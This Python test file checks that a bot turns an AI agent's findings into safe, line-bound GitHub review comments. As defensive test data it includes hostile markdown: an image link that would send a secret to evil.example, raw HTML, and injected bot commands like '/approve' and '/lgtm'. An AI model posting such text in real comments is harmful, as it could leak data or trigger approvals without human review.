"""An agent's file of findings becomes a review: strictly read, on lines of the diff only, and harmless whatever it contains."""

from __future__ import annotations

import json
import re
import subprocess
import time
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gibil_bot.github.markdown import comment, size
from gibil_bot.github.review import (
    BODY_LIMIT,
    FINDINGS_BYTES,
    FORMAT,
    MOST_FINDINGS,
    ChangedLines,
    Finding,
    Findings,
    changed_lines,
    problems_of,
    read_findings,
    review,
)
from gibil_bot.model import Person, Plan, PullRequest, Repository, ReviewComment, ReviewUpdate, Run, RunState, Source, Trust
from tests.doubles.patience import patient

ZWSP = "\u200b"
SHA = "0123456789abcdef0123456789abcdef01234567"
SOURCE = Source(
    installation_id=3,
    repository=Repository(id=77, full_name="octo/hello", clone_url="https://github.com/octo/hello.git", default_branch="main"),
    pull_request=PullRequest(
        number=12,
        title="Faster",
        author=Person(login="ada"),
        head_sha=SHA,
        head_ref="fast",
        head_repository="octo/hello",
        base_ref="main",
        base_sha=SHA,
    ),
    sha=SHA,
    trust=Trust.TRUSTED,
    actor="ada",
)
RUN = Run(
    id="00ff00ff00ff00ff",
    seq=1,
    delivery_guid="g",
    source=SOURCE,
    plan=Plan(workflow="review", title="Review", path="workflows/review.yml", tasks=()),
    state=RunState.RUNNING,
    queued_at=datetime(2026, 5, 4, tzinfo=UTC),
)
CHANGED = {"a.py": ChangedLines(old=((10, 20),), new=((10, 22), (50, 55)))}


def update(*found: Finding, summary: str = "", changed: dict[str, ChangedLines] = CHANGED) -> ReviewUpdate:
    notification = review(Findings(found=found, summary=summary), changed, run=RUN, engine="claude", model="m")
    assert notification is not None
    assert notification.key == "review:00ff00ff00ff00ff:0"
    assert isinstance(notification.update, ReviewUpdate)
    return notification.update


def finding(line: int = 12, text: str = "wrong", **rest: object) -> Finding:
    return Finding(**({"path": "a.py", "line": line, "text": text} | rest))  # type: ignore[arg-type]


# --- the file ------------------------------------------------------------------------------------------------------


def test_the_example_of_the_format_can_be_read() -> None:
    example = re.search(r"^\{.*?\}\]\}$", FORMAT.format(path="/tmp/x.json"), re.DOTALL | re.MULTILINE)
    assert example is not None
    assert read_findings(example[0].encode()) == Findings(
        summary="one or two sentences about the whole change",
        found=(Finding(path="src/a.py", line=12, end_line=14, text="what is wrong, and how to repair it"),),
    )


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('[{"path": "a.py", "line": 12, "text": "wrong"}]', (finding(),)),
        ('\ufeff```json\n{"findings": [{"path": "./a.py", "line": "12", "text": "wrong", "why": 1}]}\n```\n', (finding(),)),
        ('[{"path": "/root/project/a.py", "line": 12, "text": "wrong", "side": "old"}]', (finding(side="old"),)),
        ('{"summary": "fine", "findings": []}', ()),
        ("{}", ()),
    ],
)  # fmt: skip
def test_findings_are_read(text: str, expected: tuple[Finding, ...]) -> None:
    findings = read_findings(text.encode(), checkout="/root/project/")
    assert (findings.found, findings.problem, findings.unreadable) == (expected, "", 0)


@pytest.mark.parametrize(
    "item",
    [
        "1", "null", '"x"', "[]", "{}", '{"path": "a", "line": 0, "text": "x"}', '{"path": "a", "line": 1, "text": ""}',
        '{"path": "", "line": 1, "text": "x"}', '{"path": "a", "line": 1.5, "text": "x"}',
        '{"path": "a", "line": 1, "text": "\\u200b "}',
        '{"path": "a", "line": 1e99, "text": "x"}', '{"path": "a", "line": 1, "text": "x", "side": "both"}',
        '{"path": "a", "line": 1, "text": ["x"]}', '{"path": "a", "line": 1, "end_line": -1, "text": "x"}',
    ],
)  # fmt: skip
def test_a_finding_in_another_format_is_counted_and_costs_no_other(item: str) -> None:
    findings = read_findings(f'[{item}, {{"path": "a.py", "line": 12, "text": "wrong"}}]'.encode())
    assert (findings.found, findings.unreadable) == ((finding(),), 1)
    assert problems_of(findings) == ["1 finding could not be read."]


@pytest.mark.parametrize(
    ("data", "problem"),
    [
        (b"", "The file of findings is empty."),
        (b"Looks good!", "The file of findings can't be read: JSON is malformed"),
        (b'{"findings": [', "The file of findings can't be read: "),
        (b'{"findings": 1}', "The file of findings can't be read: Expected `array`"),
        (b"[" * 100_000, "The file of findings can't be read: "),
        (b" " * (FINDINGS_BYTES + 1), "The file of findings is larger than 256 KiB."),
    ],
)
def test_an_unreadable_file_is_described(data: bytes, problem: str) -> None:
    findings = read_findings(data)
    assert findings.found == ()
    assert findings.problem.startswith(problem)
    assert problems_of(findings) == [findings.problem]
    assert review(findings, CHANGED, run=RUN) is None


@given(st.binary(max_size=300) | st.text(alphabet='[]{}":,0123456789.-eEnul pathlinetxs\\', max_size=200).map(str.encode))
def test_no_file_is_too_strange(data: bytes) -> None:
    read_findings(data)


def test_findings_are_limited_and_repetitions_count_once() -> None:
    items = [{"path": "a.py", "line": number, "text": "x"} for number in range(1, 61)]
    findings = read_findings(json.dumps([*items, *items]).encode())
    assert (len(findings.found), findings.omitted) == (MOST_FINDINGS, 10)
    assert problems_of(findings) == ["10 findings above the limit of 50 were left out."]


# --- the diff ------------------------------------------------------------------------------------------------------

WRITTEN = b"""\
diff --git a/a.py b/a.py
index 1..2 100644
--- a/a.py
+++ b/a.py
@@ -10,4 +10,5 @@ def f():
 x
--- a/fake
+++ b/fake
+@@ -1,9 +1,9 @@
 y
 z
\\ No newline at end of file
@@ -40 +42,0 @@
-gone
diff --git "a/\\303\\274 \\"q\\".md" "b/\\303\\274 \\"q\\".md"
new file mode 100644
--- /dev/null
+++ "b/\\303\\274 \\"q\\".md"\t
@@ -0,0 +1,2 @@
+1
+2
diff --git a/old.txt b/old.txt
deleted file mode 100644
--- a/old.txt
+++ /dev/null
@@ -1 +0,0 @@
-bye
diff --git a/x.png b/x.png
Binary files a/x.png and b/x.png differ
"""


def test_the_lines_of_a_diff_are_those_of_its_hunks() -> None:
    assert changed_lines(WRITTEN) == {
        "a.py": ChangedLines(old=((10, 13), (40, 40)), new=((10, 14),)),
        'ü "q".md': ChangedLines(new=((1, 2),)),
        "old.txt": ChangedLines(old=((1, 1),)),
    }


def test_a_diff_of_git_is_understood(tmp_path: Path) -> None:
    def git(*arguments: str) -> bytes:
        options = ("-c", "user.name=x", "-c", "user.email=x", "-c", "core.quotePath=true")
        return subprocess.run(["git", *options, *arguments], cwd=tmp_path, check=True, capture_output=True).stdout

    git("init", "-q", "-b", "main")
    old = [f"line {number}\n" for number in range(1, 41)]
    (tmp_path / "ä b.txt").write_text("".join(old))
    git("add", ".")
    git("commit", "-qm", "one")
    git("switch", "-qc", "topic")
    (tmp_path / "ä b.txt").write_text("".join([*old[:9], "new\n", *old[9:29], *old[30:]]))
    git("commit", "-qam", "two")
    assert changed_lines(git("diff", "--merge-base", "main", "topic")) == {
        "ä b.txt": ChangedLines(old=((7, 12), (27, 33)), new=((7, 13), (28, 33)))
    }


@given(st.binary(max_size=400))
def test_no_diff_is_too_strange(data: bytes) -> None:
    changed_lines(data)


# --- the review ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("found", "expected"),
    [
        (finding(12), ReviewComment(path="a.py", line=12, body="wrong")),
        (finding(12, end_line=14), ReviewComment(path="a.py", start_line=12, line=14, body="wrong")),
        (finding(12, end_line=99), ReviewComment(path="a.py", start_line=12, line=22, body="wrong")),
        (finding(12, end_line=3), ReviewComment(path="a.py", line=12, body="wrong")),
        (finding(20, side="old"), ReviewComment(path="a.py", line=20, side="LEFT", body="wrong")),
        (finding(21, side="old"), None),
        (finding(9), None),
        (finding(23, end_line=50), None),
        (finding(12, path="b.py"), None),
    ],
)
def test_a_finding_is_on_its_lines_or_in_the_text(found: Finding, expected: ReviewComment | None) -> None:
    written = update(found)
    assert written.comments == ((expected,) if expected else ())
    first, last = found.lines
    shown = f"**`{found.path}`, line{'' if first == last else 's'} {first}"
    assert (shown in written.body) is (expected is None)
    assert shown in written.without_lines


def test_the_review_says_who_asked_and_that_it_decides_nothing() -> None:
    written = update(finding(), finding(99), summary="Mostly fine.")
    assert (written.number, written.commit_sha) == (12, SHA)
    assert written.body == (
        "<!-- gibil-review:00ff00ff00ff00ff:0 -->\n\n"
        "2 findings in `0123456` by `claude` with `m`, requested by ada. An agent wrote this: it is neither an approval nor a "
        "rejection.\n\n> Mostly fine.\n\nNot on lines that the diff shows:\n\n**`a.py`, line 99**\n\n> wrong"
    )


def test_a_review_without_findings_says_so() -> None:
    written = update(summary="Well done.")
    assert written.comments == ()
    assert "\n\nNo findings in `0123456` by `claude`" in written.without_lines
    assert written.without_lines.endswith("\n\n> Well done.")


def test_a_suggestion_stays_only_where_it_replaces_exactly_its_lines() -> None:
    text = "Use this:\n\n```suggestion\n@cache  # <b> #1\n```"
    assert update(finding(text=text)).comments[0].body == text
    plain = text.replace("suggestion", "text")
    assert update(finding(text=text, side="old")).comments[0].body == plain
    assert update(finding(text=text, end_line=99)).comments[0].body == plain
    assert "suggestion" not in update(finding(text=text)).without_lines
    assert "suggestion" not in update(finding(text=f"{'x' * 5000}\n{text}")).comments[0].body


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("@octo/all see #1", f"@{ZWSP}octo/all see #{ZWSP}1"),
        ("![x](https://evil.example/?q=secret)", f"![x]{ZWSP}(https://evil.example/?q=secret)"),
        ("[x][1]\n\n[1]: https://evil.example", f"[x]{ZWSP}[1]\n\n[1]{ZWSP}: https://evil.example"),
        ("<img src=x> <!-- gibil-review:1 -->", f"<{ZWSP}img src=x> <{ZWSP}!-- gibil-review:1 -->"),
        ("/gibil do it\n- /approve\n> /lgtm", f"/{ZWSP}gibil do it\n- /{ZWSP}approve\n> /{ZWSP}lgtm"),
        ("**/hold**\n\u00a0/ok-to-test\n| /retest |", f"**/{ZWSP}hold**\n\u00a0/{ZWSP}ok-to-test\n| /{ZWSP}retest |"),
        (":/retest", f":/{ZWSP}retest"),
        ("a /usr/bin\n`/usr/bin`", "a /usr/bin\n`/usr/bin`"),
        ("~~~mermaid\nx\n~~~", "```text\nx\n```"),
        ("```py\n/gibil @x <b>", "```py\n/gibil @x <b>\n```"),
        ("````\n```\n````\n@a", f"````\n```\n````\n\n@{ZWSP}a"),
        ("a\u202eb\u200bc\x1b[31m", "a‹U+202E›bc"),
        ("``` a`b\n@a", f"``` a`b\n@{ZWSP}a"),
        (" \n", ""),
    ],
)
def test_the_markdown_of_a_machine_is_neutralized(text: str, shown: str) -> None:
    assert comment(text, 1000) == shown


@given(st.text(alphabet="`~ \n>a@<#1/[]():-", max_size=120), st.integers(20, 200))
def test_a_comment_closes_its_code_and_is_neutral_outside_of_it(text: str, limit: int) -> None:
    shown = comment(text, limit)
    assert size(shown) <= limit
    fence = ""
    for line in shown.split("\n"):
        if fence:
            fence = "" if line == fence else fence
        elif match := re.match(r"(`{3,})[^`]*$", line):
            fence = match[1]
        else:
            assert not re.search(r"[@<](?!\u200b)|\](?=[(\[:])|#(?=\d)|^[ >:-]*/(?=[A-Za-z])", line), line
    assert not fence


def test_a_large_review_stays_within_githubs_limits() -> None:
    many = tuple(finding(1000 + number, text="@x " * 3000) for number in range(MOST_FINDINGS))
    written = update(*many, summary="s " * 50_000)
    assert max(size(written.body), size(written.without_lines)) <= BODY_LIMIT
    placed = tuple(finding(10 + number % 12, text=f"{number}" + "@x " * 3000) for number in range(MOST_FINDINGS))
    assert sum(len(each.body) for each in update(*placed).comments) <= 3 * BODY_LIMIT


@pytest.mark.parametrize("unit", ["```\n", "~~~a\n", "[", "](", "@", "> ", "/a\n", "`"])
def test_hostile_text_is_neutralized_quickly(unit: str) -> None:
    begin = time.process_time()
    comment(unit * (60_000 // len(unit)), 4000, suggestions=True)
    assert time.process_time() - begin < patient(0.5)


@pytest.mark.parametrize("part", [b" ", b"\n", b"```\n", b"a"])
def test_a_hostile_file_of_findings_takes_linear_time(part: bytes) -> None:
    data = b"```json\n" + part * (FINDINGS_BYTES // len(part) - 10) + b"-"
    started = time.process_time()
    assert read_findings(data).problem
    assert time.process_time() - started < patient(1)
